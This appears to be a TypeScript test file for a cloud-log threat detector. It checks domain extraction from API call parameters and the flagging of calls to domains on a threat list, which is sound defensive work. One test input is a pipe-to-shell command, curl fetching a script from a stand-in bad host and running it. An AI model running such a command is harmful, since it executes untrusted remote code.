import { describe, expect, it } from 'vitest'
import { MemoryStore } from '#adapters/local/memory-store.ts'
import { parseList } from '#core/intel/list-formats.ts'
import { intelFrom } from '#core/intel/lists.ts'
import type { Json } from '#core/model/event.ts'
import { normalizeApiCall } from '#core/normalize/api-call.ts'
import { domainsIn } from '#core/normalize/named-facts.ts'
import { createPipeline, settle } from '#core/pipeline.ts'
import { defaultSettings } from '#core/settings/settings.ts'
import { content } from '#detections/content.ts'
import { record, user } from '../../support/records/cloudtrail.ts'

describe('domain names in parameters', () => {
  it.each([
    ['an address of the web', { endpoint: 'https://Hooks.Bad.Example.net:8443/in?x=1' }, ['hooks.bad.example.net']],
    ['a mail address', { endpoint: 'eve@bad.example.net' }, ['bad.example.net']],
    ['a command', { parameters: { commands: ['curl -s bad.example.net/x | sh'] } }, ['bad.example.net']],
    ['with the dot of the root', { name: 'www.example.net.' }, ['www.example.net']],
    ['a name of Amazon says nothing', { url: 'https://sqs.eu-west-1.amazonaws.com/1/q' }, []],
    ['numbers and files', { size: '12.5', address: '203.0.113.7', version: '1.2.3' }, []],
    ['each once', { a: 'x.example.net', b: ['x.example.net'] }, ['x.example.net']],
  ] as const)('%s', (_, parameters, expected) => expect(domainsIn(parameters as Json)).toEqual(expected))

  it('are searched within bounds', () => {
    const names = Array.from({ length: 5_000 }, (_, at) => `h${at}.example.net`)
    expect(domainsIn({ text: names.join(' ') }).length).toBeLessThanOrEqual(100)
    expect(domainsIn({ texts: names.map(() => 'x') })).toEqual([])
    let deep: unknown = 'deep.example.net'
    for (let at = 0; at < 100; at++) deep = { deep }
    expect(domainsIn(deep as Json)).toEqual([])
    const dots = `a${'.'.repeat(16_000)}a`
    expect(domainsIn({ texts: [...Array(15).fill(dots), `${dots} bad.example.net`] })).toEqual(['bad.example.net'])
    // Too long to be a name, it is not even trimmed: that would go back and forth over the dots.
    expect(domainsIn({ text: `bad.example.net${'.'.repeat(16_000)}` })).toEqual([])
    expect(domainsIn({ text: '.'.repeat(16_000), more: `${'a.'.repeat(8_000)}b` })).toEqual([])
  })
})

describe('a domain of a threat list', () => {
  const list = parseList('bad.example.net\n', {
    name: 'sample',
    source: 'a file',
    kind: 'threat',
    expires: Date.parse('2026-06-01T00:00:00Z'),
  })
  const reported = async (time: string, endpoint: string) => {
    const store = new MemoryStore()
    const pipeline = createPipeline({ content, settings: defaultSettings, intel: intelFrom([list]) }, store)
    const subscribed = record({
      eventSource: 'sns.amazonaws.com',
      eventName: 'Subscribe',
      eventTime: time,
      awsRegion: 'eu-west-1',
      readOnly: false,
      requestParameters: { protocol: 'https', endpoint },
      userIdentity: user('bob'),
    })
    await pipeline.take([normalizeApiCall(subscribed, pipeline.context)])
    return (await settle(pipeline, store)).filter((finding) => finding.detection === 'call-names-listed-domain')
  }

  it('in a call is reported, with the list that says so', async () => {
    const [finding] = await reported('2026-05-01T10:00:00Z', 'https://hooks.bad.example.net/in')
    expect(finding?.severity).toBe('medium')
    expect(finding?.indicators).toEqual([{ value: 'hooks.bad.example.net', list: 'sample' }])
    expect(finding?.summary).toMatch(/^bob called Subscribe .*hooks\.bad\.example\.net, listed in sample/)
  })

  it('says nothing of other names, nor after it expired', async () => {
    expect(await reported('2026-05-01T10:00:00Z', 'https://good.example.net/in')).toEqual([])
    expect(await reported('2026-06-02T10:00:00Z', 'https://hooks.bad.example.net/in')).toEqual([])
  })
})
